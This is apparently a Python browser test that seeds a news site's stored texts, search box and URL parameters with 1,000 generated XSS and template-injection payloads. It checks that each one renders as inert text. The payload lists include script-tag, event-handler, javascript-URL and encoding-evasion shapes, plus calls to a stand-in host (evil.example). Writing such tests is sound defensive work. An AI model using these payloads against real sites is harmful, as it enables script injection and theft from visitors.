"""1,000 hostile payloads in every text field of a warehouse: on every page they are text, in a real browser.

The browser is the judge, not a pattern: payloads that ran would set a mark, open a dialog, ask for another host or
leave an element, attribute or address in the document that the page itself never makes.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import fields, replace
from itertools import cycle, islice, product
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from storage.publish import publish
from storage.records import (
    Article,
    ArticleBeat,
    ArticleFeatures,
    ArticleTopic,
    ArticleVersion,
    Outcome,
    Record,
    StoryTopic,
    Topic,
)
from storage.store import Store
from tests.storage.builders import (
    NOON,
    article,
    at,
    copy_of,
    entry,
    feed,
    member,
    poll,
    source,
    story,
    translation,
)
from tests.web.conftest import Served, serving
from tests.web.test_browser import fits, left

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = [pytest.mark.browser, pytest.mark.slow]

_CALLS = [
    "window.__xss=1",
    "alert(1)",
    "fetch('//evil.example/')",
    "document.body.innerHTML=''",
    "location='//evil.example/'",
]
_SHAPES = [
    "<script>{c}</script>",
    "</script><script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</style><script>{c}</script>",
    "--><script>{c}</script><!--",
    "]]><script>{c}</script>",
    "<img src=x onerror={c}>",
    '<img src=x onerror="{c}">',
    "<img/src=x/onerror={c}>",
    '"><img src=x onerror={c}>',
    "'><img src=x onerror={c}>",
    '" onmouseover="{c}" autofocus onfocus="{c}',
    "' onfocus='{c}' autofocus '",
    "` onfocus=`{c}` autofocus",
    " onload={c} ",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    '<iframe src="javascript:{c}"></iframe>',
    '<object data="javascript:{c}"></object>',
    '<embed src="javascript:{c}">',
    '<a href="javascript:{c}">x</a>',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=javascript:{c}">',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example/x)">',
    '<form action="//evil.example/"><button>x</button></form>',
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<body onload={c}>",
    "<template><script>{c}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "%3Cscript%3E{c}%3C/script%3E",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    "\u003cscript\u003e{c}\u003c/script\u003e",
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "\x01javascript:{c}",
    "javascript&colon;{c}",
    "data:text/html,<script>{c}</script>",
    "vbscript:{c}",
    "//evil.example/{c}",
    "\\\\evil.example\\{c}",
    "https:\\\\evil.example/{c}",
    'http://evil.example" onclick="{c}',
    "http://[evil/{c}",
    "{{{{ {c} }}}}",
    "{{% include 'base.html.j2' %}}{c}",
    "${{{c}}}",
    "<%= {c} %>",
    "'); {c}; ('",
    "\u202e<script>{c}</script>\u2066",
    "\ufeff<script>{c}</script>",
    "<\x00script>{c}</script>",
    "\u2028<script>{c}</script>\u2029",
    "<ｓｃｒｉｐｔ>{c}</ｓｃｒｉｐｔ>",
    "$story {c} $1 -- if country",
]
_FRAMES = ["{p}", "Noticia {p} de hoy", "{p}{p}", "a\n{p}"]


def payloads() -> list[str]:
    """Return 1,000 different hostile texts."""
    made = [f.format(p=s.format(c=c)) for c, f, s in product(_CALLS, _FRAMES, _SHAPES)]
    return list(dict.fromkeys(made))[:1_000]


# Ids and closed lists come from us; everything else may come from a feed, a page, an engine or a declaration.
_OURS = {
    "article_id", "entry_id", "source_id", "story_id", "topic_id", "page_id", "text_sha256", "content_sha256",
    "source_sha256", "country", "lang", "lang_origin", "kind", "genre", "published_at_origin", "published_precision",
    "title_origin", "text_group_id", "original_article_id", "run_id", "fetch_id", "stage", "outcome", "key",
    "parent_id",
    "lead_article_id", "title_en_origin", "title_es_origin", "target", "status", "timezone", "beats", "beat", "state",
    "languages", "based_in", "numbers",
}  # fmt: skip


def poisoned(record: Record, hostile: Iterator[str]) -> Record:
    """Return ``record`` with the next payloads in every text field that is not ours."""
    changes: dict[str, object] = {}
    for f in fields(record):  # type: ignore[arg-type]
        value = getattr(record, f.name)
        if f.name in _OURS:
            continue
        if isinstance(value, str) or (value is None and "str" in str(f.type)):
            changes[f.name] = next(hostile)
        elif isinstance(value, tuple) and "str" in str(f.type):
            changes[f.name] = (next(hostile), next(hostile))
    return replace(record, **changes)  # type: ignore[type-var]


def records(hostile: Iterator[str]) -> Iterator[Record]:
    """Yield a small world: six outlets, stories with copies, translations, topics, drops; every field poisoned."""
    places = [("VE", "es"), ("ES", "es"), ("US", "en"), ("VE", "es"), ("ES", "ca"), ("CO", "es")]
    for n, (country, _) in enumerate(places):
        yield poisoned(source(f"o{n}", country), hostile)
        yield replace(poisoned(feed(f"o{n}", last_reason="timeout"), hostile), position=0)  # type: ignore[type-var]
        yield poisoned(poll(f"f{n}", f"o{n}", at(n)), hostile)
        yield poisoned(Outcome("r", "feed", f"https://o{n}.example/feed", f"o{n}", "failed", "x", "x", at(n)), hostile)
    for t in range(6):
        yield poisoned(Topic(f"ata:t{t}", "x", "x", "ata:t0" if t else None, 2 if t else 1), hostile)
    texts, first = cycle(payloads()), ""
    for s in range(30):
        yield poisoned(story(f"s{s}", f"a{s}-0"), hostile)
        yield poisoned(StoryTopic(f"s{s}", f"ata:t{s % 6}", 0.9, ("x",), "m"), hostile)
        for n, (country, lang) in enumerate(places):
            key, outlet = f"a{s}-{n}", f"o{n}"
            made = article(key, outlet, country=country, lang=lang, published_at=at(s / 10 + n), agency="x")
            # Eight payloads a text: those that a story's page shows hold them all. The fourth copies the first
            words = "\n".join(islice(texts, 8)) if n != 3 else first
            first = words if n == 0 else first
            yield replace(poisoned(made, hostile), text=words)  # type: ignore[type-var]
            yield member(f"s{s}", key)
            yield poisoned(translation(key, ("ok", "partial", "quarantined")[(s + n) % 3]), hostile)
            yield poisoned(ArticleTopic(key, f"ata:t{s % 6}", 0.9, ("x",), "m"), hostile)
            yield poisoned(ArticleBeat(key, "venezuela", 0.9, ("x",), "m"), hostile)
            yield ArticleFeatures(key, "x", (), (), (), 1, (), (), (next(hostile), "7"), "m")
            for version in (1, 2):
                yield poisoned(ArticleVersion(key, str(version), version, "x", "x", None, NOON, None, "x"), hostile)
        yield poisoned(copy_of(f"a{s}-3", f"g{s}", f"a{s}-0"), hostile)
        yield poisoned(entry(f"e{s}", f"o{s % 6}", state="quarantined", reason="bad_url"), hostile)


@pytest.fixture(scope="module")
def poisoned_page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A served home in which every text is hostile."""
    home: Path = tmp_path_factory.mktemp("hostile")
    hostile = cycle(payloads())
    with Store.open(home, "test") as store:
        store.merge(list(records(hostile)))
        publish(home, store)
    with serving(home) as found:
        yield found


INSPECT = """() => {
    const allowed = new Set(('html head meta title link body a header div svg path nav form label input button ' +
        'circle span time strong main h1 h2 h3 p table thead tbody tr th td section aside ol ul li picture source ' +
        'img details summary footer article dl dt dd abbr select option rect code pre mark').split(' '));
    const bad = [];
    for (const e of document.querySelectorAll('*')) {
        if (!allowed.has(e.localName)) bad.push('element ' + e.localName);
        for (const a of e.attributes) {
            if (/^on/i.test(a.name) || a.name === 'style' || a.name === 'srcdoc' || a.name === 'autofocus')
                bad.push('attribute ' + a.name);
            if (['href', 'src', 'srcset', 'action', 'formaction', 'data', 'xlink:href'].includes(a.name)) {
                const url = new URL(a.value.split(' ')[0], document.baseURI);
                const outside = e.localName === 'a' && e.rel.includes('noopener');
                if (url.origin !== location.origin && !(outside && /^https?:$/.test(url.protocol)))
                    bad.push(a.name + ' ' + a.value);
            }
        }
    }
    if (window.__xss !== undefined) bad.push('a payload ran');
    if (document.baseURI !== location.href) bad.push('the base was changed');
    return bad;
}"""


def test_there_are_a_thousand_and_every_field_has_them() -> None:
    """1,000 different payloads; the texts hold each of them, and every other field of an article is one."""
    hostile = set(payloads())
    assert len(hostile) == 1_000
    held = [r for r in records(cycle(payloads())) if isinstance(r, Article)]
    texts = "\n".join(a.text for a in held)
    assert [p for p in hostile if p not in texts] == []
    for name in ("title", "summary", "url", "canonical_url", "agency", "extractor"):
        assert {getattr(a, name) for a in held} <= hostile, name
    assert {author for a in held for author in a.authors} <= hostile


def test_hostile_text_stays_text_on_every_page(browser: Browser, poisoned_page: Served) -> None:
    """No payload runs, no element or attribute comes from data, nothing is asked of another host, nothing is lost."""
    served = poisoned_page
    stories, articles = (
        [f"/stories/s{s}" for s in range(30)],
        [f"/articles/a{s}-{n}" for s in range(30) for n in (0, s % 6)],
    )
    lists = [
        "/",
        "/?page=2",
        "/matrix",
        "/topics",
        "/topics/ata:t1",
        "/sources",
        "/sources/o1",
        "/sources/o5",
        "/drops",
    ]
    paths = [*lists, "/drops?page=2", "/search?country=VE", *stories, *dict.fromkeys(articles)]
    wrong: list[str] = []
    context = browser.new_context(viewport={"width": 390, "height": 800})
    page = context.new_page()
    page.on("console", lambda m: wrong.append(f"console: {m.text}"))
    page.on("pageerror", lambda e: wrong.append(f"error: {e}"))
    page.on("dialog", lambda d: (wrong.append(f"dialog: {d.message}"), d.dismiss()))
    page.on("request", lambda r: wrong.append(f"asks {r.url}") if not r.url.startswith(served.base) else None)
    page.on("requestfailed", lambda r: None if left(r.failure) else wrong.append(f"failed: {r.url}"))
    seen = ""
    for number, path in enumerate(paths):
        answer = page.goto(f"{served.base}/{('en', 'es')[number % 2]}{path}", wait_until="domcontentloaded")
        assert answer is not None
        assert answer.status == 200, path
        assert page.evaluate(INSPECT) == [], path
        assert fits(page), path
        seen += page.evaluate("document.documentElement.textContent")
    context.close()
    assert wrong == []
    # Shown as text, every one of them; what has no glyph is replaced, white space may be told otherwise.
    plain = squeezed(seen)
    missing = [p for p in payloads() if squeezed(p)[:200] not in plain]
    assert missing == []


def squeezed(text: str) -> str:
    """Return text without white space and without what the page replaces."""
    return re.sub(r"[\s\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffd]+", "", text)


def test_hostile_words_of_the_reader_stay_text_too(browser: Browser, poisoned_page: Served) -> None:
    """What is typed into the search, or put into any parameter of an address, comes back as text or not at all."""
    served = poisoned_page
    wrong: list[str] = []
    context = browser.new_context()
    page = context.new_page()
    page.on("dialog", lambda d: (wrong.append(d.message), d.dismiss()))
    page.on("request", lambda r: wrong.append(f"asks {r.url}") if not r.url.startswith(served.base) else None)
    for number, payload in enumerate(islice(payloads(), 0, None, 80)):
        name = ("q", "topic", "source", "day", "page", "country")[number % 6]
        typed = re.sub(r"[\x00-\x1f]", "", payload)[:250]
        page.goto(f"{served.base}/en/search", wait_until="domcontentloaded")
        page.locator("#s-q").fill(typed)
        page.locator("#s-q").press("Enter")
        page.wait_for_load_state("domcontentloaded")
        assert page.evaluate(INSPECT) == [], typed
        page.goto(f"{served.base}/en/?{name}={quoted(typed)}", wait_until="domcontentloaded")
        assert page.evaluate(INSPECT) == [], typed
        page.goto(f"{served.base}/en/stories/{quoted(typed)}", wait_until="domcontentloaded")
        assert page.evaluate(INSPECT) == [], typed
    context.close()
    assert wrong == []


def quoted(text: str) -> str:
    """Return ``text`` for a place in an address."""
    return quote(text, safe="")
